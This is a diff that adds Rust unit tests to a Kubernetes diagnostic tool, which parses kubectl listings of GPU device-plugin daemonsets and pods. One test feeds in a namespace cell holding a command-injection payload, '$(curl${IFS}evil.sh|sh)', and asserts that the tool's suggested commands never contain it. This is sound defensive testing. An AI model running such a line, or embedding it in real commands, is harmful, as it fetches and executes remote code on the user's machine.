@@ -443,6 +443,16 @@ trainer-0   0/1     Pending   0          5m
             "{:?}",
             d.causes[0].next
         );
+        // A namespace cell that is not a name is not put into a command.
+        let hostile = "$(curl${IFS}evil.sh|sh)  nvidia-device-plugin-daemonset   2         2         0       2            0\n";
+        let (_, evs) = parse(hostile, "x").unwrap();
+        let d = crate::diagnose::diagnose(&evs[0]);
+        assert_eq!(d.primary, crate::rules::Category::DevicePlugin);
+        assert!(
+            d.causes[0].next.iter().all(|n| !n.command.contains("$(")),
+            "{:?}",
+            d.causes[0].next
+        );
         // All ready: the listing says nothing of the plugin.
         let ready = paste.replace(
             "neuron-device-plugin-daemonset   2         2         0       2            0",
@@ -466,6 +476,27 @@ trainer-0   0/1     Pending   0          5m
         assert!(!evs[0].signals.is_empty());
         let one = paste.lines().next().unwrap();
         assert_eq!(parse(one, "x").unwrap().0, Format::Text);
+    }
+
+    #[test]
+    fn the_reporters_words_that_pods_run_do_not_outweigh_a_pod_shown_waiting() {
+        use crate::rules::Category;
+        let words = crate::rules::RULES
+            .iter()
+            .find(|r| r.id == "GW603")
+            .unwrap()
+            .example;
+        let (_, evs) = parse(words, "x").unwrap();
+        assert_eq!(crate::diagnose::diagnose(&evs[0]).primary, Category::None);
+        // With a `get pods` row that shows the Pod Pending (from NVIDIA/k8s-device-plugin #176).
+        let pending = format!(
+            "$ kubectl get pods\nNAME      READY   STATUS    RESTARTS   AGE\ngpu-pod   0/2     Pending   0          24h\n\n{words}\n"
+        );
+        let (_, evs) = parse(&pending, "x").unwrap();
+        assert_eq!(
+            crate::diagnose::diagnose(&evs[0]).primary,
+            Category::Unknown
+        );
     }
 
     #[test]
